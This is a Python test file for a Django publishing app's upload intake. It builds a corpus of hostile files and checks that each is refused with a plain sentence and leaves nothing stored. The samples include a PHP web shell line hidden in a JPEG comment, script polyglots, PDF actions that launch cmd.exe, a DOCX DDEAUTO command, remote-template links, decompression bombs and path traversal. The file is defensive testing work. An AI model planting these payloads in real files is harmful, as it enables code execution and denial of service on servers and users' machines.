"""What must not be published, made here and refused: with the right sentence, and without a trace."""

import io
import struct
import tempfile
import zlib
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from press.intake.refusal import Unfit
from press.intake.wording import sentence
from press.models import Rendition, StoredFile
from press.uploads import take_in
from tests.press.factory import make_officer
from tests.press.uploads_factory import (
    ODS,
    SHEET,
    office_open,
    open_document,
    package,
    pdf,
    picture,
    relations,
    uploaded,
)

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ARCHIVE = package([("evil.html", PAGE)])
HEIC = struct.pack(">I4s4sI4s", 20, b"ftyp", b"heic", 0, b"mif1")
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PRESENTATION = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'


def bomb():
    """A PNG that says it is 30,000 pixels wide and high."""
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(name, data):
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def with_comment(text):
    """A JPEG with a comment."""
    return picture(comment=text)


def webp_saying(size):
    """A WebP whose header says another size than it has."""
    whole = picture("WEBP")
    return whole[:4] + struct.pack("<I", size) + whole[8:]


def gif():
    """A GIF."""
    buffer = io.BytesIO()
    Image.new("P", (9, 9)).save(buffer, "GIF")
    return buffer.getvalue()


def zip_bomb():
    """A DOCX of which one part unpacks to a thousand times its size."""
    return office_open(("word/media/image1.png", b"\0" * 30_000_000))


def encrypted(archive):
    """The archive with the mark of encryption on its parts."""
    return archive.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )


def acting(subtype, **more):
    """What makes a PDF do something when it is opened."""

    def act(writer):
        action = {NameObject("/S"): NameObject(subtype)}
        action |= {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))

    return act


def holding(key):
    """What puts a dictionary with `key` into a PDF, where no page leads."""
    return lambda writer: writer._add_object(DictionaryObject({NameObject(key): DictionaryObject()}))


HOSTILE = {
    "empty": ("a.jpg", b"", "empty"),
    "no ending": ("garden", picture, "nameless"),
    "nothing but an ending": (".jpg", picture, "nameless"),
    "SVG": ("a.svg", SVG, "SVG"),
    "SVG named JPEG": ("a.jpg", SVG, "SVG"),
    "HTML": ("a.html", PAGE, "unknown"),
    "HTML named PNG": ("a.png", PAGE, "unknown"),
    "HTML named PDF": ("a.pdf", PAGE, "unknown"),
    "GIF": ("a.gif", gif, "unknown"),
    "GIF that is a script": ("a.jpg", b"GIF89a/*" + PAGE, "unknown"),
    "HEIC": ("a.heic", HEIC, "HEIC"),
    "program": ("a.jpg", b"MZ" + b"\0" * 200, "unknown"),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "OLE"),
    "PNG named JPEG": ("a.jpg", lambda: picture("PNG"), "mismatched"),
    "JPEG named PDF": ("a.pdf", picture, "mismatched"),
    "PDF named DOCX": ("a.docx", pdf, "mismatched"),
    "DOCX named ODT": ("a.odt", office_open, "mismatched"),
    "JPEG named HTML": ("a.jpg.html", picture, "mismatched"),
    "too large": ("a.jpg", lambda: picture() + b"\0" * 11_000_000, "too_large"),
    "bomb of pixels": ("a.png", bomb, "too_many_pixels"),
    "cut JPEG": ("a.jpg", lambda: picture(size=(400, 300))[:-700], "damaged"),
    "JPEG without pixels": ("a.jpg", lambda: picture()[:300], "damaged"),
    "JPEG that is a head": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, "damaged"),
    "cut PNG": ("a.png", lambda: picture("PNG")[:-20], "damaged"),
    "PNG with a wrong sum": ("a.png", lambda: picture("PNG").replace(b"IDATx", b"IDATy", 1), "damaged"),
    "cut WebP": ("a.webp", lambda: picture("WEBP")[:-10], "damaged"),
    "WebP that says too much": ("a.webp", lambda: webp_saying(1 << 30), "damaged"),
    "cut AVIF": ("a.avif", lambda: picture("AVIF")[:-10], "damaged"),
    "JPEG and page": ("a.jpg", lambda: picture() + PAGE, "hidden_page"),
    "JPEG with a page in its comment": ("a.jpg", lambda: with_comment(PAGE), "hidden_page"),
    "JPEG with a program in its comment": ("a.jpg", lambda: with_comment(b"<?php system($_GET[0]); ?>"), "hidden_page"),
    "PNG with a page in its text": ("a.png", lambda: png_with(b"tEXt", b"Comment\0" + PAGE), "hidden_page"),
    "JPEG and archive": ("a.jpg", lambda: picture() + ARCHIVE, "goes_on"),
    "JPEG, JPEG and archive": ("a.jpg", lambda: picture() + picture() + ARCHIVE, "goes_on"),
    "JPEG, film and archive": ("a.jpg", lambda: picture() + HEIC + ARCHIVE, "goes_on"),
    "JPEG and PDF": ("a.jpg", lambda: picture() + pdf(), "goes_on"),
    "PNG and archive": ("a.png", lambda: picture("PNG") + ARCHIVE, "goes_on"),
    "WebP and program": ("a.webp", lambda: picture("WEBP") + b"MZ" + b"\1" * 90, "goes_on"),
    "AVIF and archive": ("a.avif", lambda: picture("AVIF") + ARCHIVE, "goes_on"),
    "archive": ("a.docx", ARCHIVE, "unknown_document"),
    "archive behind a PDF": ("a.pdf", lambda: pdf() + ARCHIVE, "two_files"),
    "PDF behind a page": ("a.pdf", lambda: PAGE + pdf(), "unknown"),
    "PDF with a page in its head": ("a.pdf", lambda: b"%PDF-1.7\n%" + PAGE + b"\n" + pdf(), "two_files"),
    "cut PDF": ("a.pdf", lambda: pdf()[:-60], "damaged_document"),
    "PDF without anything": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "damaged_document"),
    "PDF with a program": ("a.pdf", lambda: pdf(holding("/JavaScript")), "runs_program"),
    "PDF that runs a program when opened": ("a.pdf", lambda: pdf(acting("/JavaScript", JS="1")), "runs_program"),
    "PDF that starts a program": ("a.pdf", lambda: pdf(acting("/Launch", F="cmd.exe")), "runs_program"),
    "PDF that sends a form": ("a.pdf", lambda: pdf(acting("/SubmitForm", F="https://x.example")), "runs_program"),
    "PDF with XFA": ("a.pdf", lambda: pdf(holding("/XFA")), "runs_program"),
    "PDF with a file inside": ("a.pdf", lambda: pdf(lambda w: w.add_attachment("x.exe", b"MZ")), "embedded"),
    "PDF that opens another": ("a.pdf", lambda: pdf(acting("/GoToR", F="\\\\x.example\\a")), "points_outside"),
    "PDF with a password": ("a.pdf", lambda: pdf(lambda writer: writer.encrypt("secret")), "locked"),
    "DOCX with a macro": ("a.docx", lambda: office_open(("word/vbaProject.bin", b"x")), "macros"),
    "DOCX that says it has macros": ("a.docx", lambda: office_open(types=override(MACRO_SHEET)), "macros"),
    "XLSX with an old macro": ("a.xlsx", lambda: office_open(("xl/macrosheets/a.xml", "<x/>"), main=SHEET), "macros"),
    "DOCX with ActiveX": ("a.docx", lambda: office_open(("word/activeX/activeX1.xml", "<x/>")), "macros"),
    "DOCX with a table inside": ("a.docx", lambda: office_open(("word/embeddings/a.xlsx", b"x")), "embedded"),
    "DOCX with an object inside": ("a.docx", lambda: office_open(("word/oleObject1.bin", b"x")), "embedded"),
    "DOCX with a template elsewhere": (
        "a.docx",
        lambda: office_open(
            ("word/_rels/settings.xml.rels", relations("attachedTemplate", "https://x.example/a.dotm"))
        ),
        "points_outside",
    ),
    "DOCX with a picture elsewhere": (
        "a.docx",
        lambda: office_open(("word/_rels/document.xml.rels", relations("image", "file://x.example/a.png"))),
        "points_outside",
    ),
    "DOCX that asks another program": (
        "a.docx",
        lambda: office_open(body="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        "points_outside",
    ),
    "XLSX with a table elsewhere": (
        "a.xlsx",
        lambda: office_open(("xl/externalLinks/externalLink1.xml", "<x/>"), main=SHEET),
        "points_outside",
    ),
    "DOCX that bursts": ("a.docx", zip_bomb, "bursts"),
    "DOCX of very many parts": (
        "a.docx",
        lambda: office_open(*((f"word/{number}.xml", "") for number in range(5_001))),
        "bursts",
    ),
    "DOCX with entities": ("a.docx", lambda: office_open(("a.rels", ENTITIES)), "damaged_document"),
    "DOCX with a part above its folder": ("a.docx", lambda: office_open(("../../a.xml", "<x/>")), "damaged_document"),
    "DOCX with two parts of one name": (
        "a.docx",
        lambda: office_open(("WORD/DOCUMENT.xml", "<x/>")),
        "damaged_document",
    ),
    "cut DOCX": ("a.docx", lambda: office_open()[:-30], "two_files"),
    "DOCX with something behind": ("a.docx", lambda: office_open() + PAGE, "two_files"),
    "DOCX with a gap": ("a.docx", lambda: with_gap(office_open()), "two_files"),
    "DOCX with a password": ("a.docx", lambda: encrypted(office_open()), "locked"),
    "presentation": ("a.docx", lambda: office_open(main=PRESENTATION), "unknown_document"),
    "ODT with a macro": ("a.odt", lambda: open_document(("Basic/Standard/a.xml", "<x/>")), "macros"),
    "ODT that listens": ("a.odt", lambda: open_document(body="<script:event-listener/>"), "macros"),
    "ODT with an object": ("a.odt", lambda: open_document(body="<draw:object-ole/>"), "embedded"),
    "ODT with a picture elsewhere": (
        "a.odt",
        lambda: open_document(body='<draw:image xlink:href="https://x.example/a.png"/>'),
        "points_outside",
    ),
    "ODT with a picture of the network": (
        "a.odt",
        lambda: open_document(body='<draw:image xlink:href="//x.example/a.png"/>'),
        "points_outside",
    ),
    "ODS that asks another program": (
        "a.ods",
        lambda: open_document(mimetype=ODS, body="<office:dde-source/>"),
        "points_outside",
    ),
    "ODT with a password": ("a.odt", lambda: open_document(manifest="<m:encryption-data/>"), "locked"),
    "ODT that is a template": ("a.odt", lambda: open_document(mimetype="application/vnd.oasis.x"), "unknown_document"),
    "ODT with something before": ("a.odt", lambda: open_document(first=[("a.html", PAGE)]), "unknown_document"),
}


def override(content_type):
    """A part's type, as a DOCX lists it."""
    return f'<Override PartName="/a" ContentType="{content_type}"/>'


def png_with(name, data):
    """A PNG with one more chunk."""
    whole = picture("PNG")
    return whole[:33] + chunk(name, data) + whole[33:]


def with_gap(archive):
    """The archive with something between its parts and the list of them."""
    start = archive.index(b"PK\x01\x02")
    return archive[:start] + PAGE + archive[start:]


def sentence_of(code):
    """How the sentence of a code begins."""
    facts = {"limit": 0, "suffix": "", "found": "" if code == "unknown" else code}
    code = "foreign" if code in {"unknown", "SVG", "HEIC", "OLE"} else code
    return sentence(Unfit(code, **facts))[:24]


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 40


@pytest.mark.django_db
@pytest.mark.usefixtures("empty_storage")
@pytest.mark.parametrize("key", HOSTILE)
def test_hostile_upload_is_refused_in_a_sentence_and_leaves_no_trace(key, tmp_path, monkeypatch):
    name, made, code = HOSTILE[key]
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    upload = uploaded(made() if callable(made) else made, "given.jpg")
    upload.__dict__["_name"] = name

    with pytest.raises(Unfit) as refusal:
        take_in(upload, make_officer())

    assert sentence(refusal.value).startswith(sentence_of(code))
    assert not StoredFile.objects.exists()
    assert not Rendition.objects.exists()
    assert default_storage.listdir("") == ([], [])
    assert list(Path(tmp_path).iterdir()) == []


def test_mismatched_name_is_told_with_both_kinds():
    assert sentence(Unfit("mismatched", suffix=".jpg", found="PNG")).startswith(
        "The name of this file ends in “.jpg”, but its content is PNG."
    )
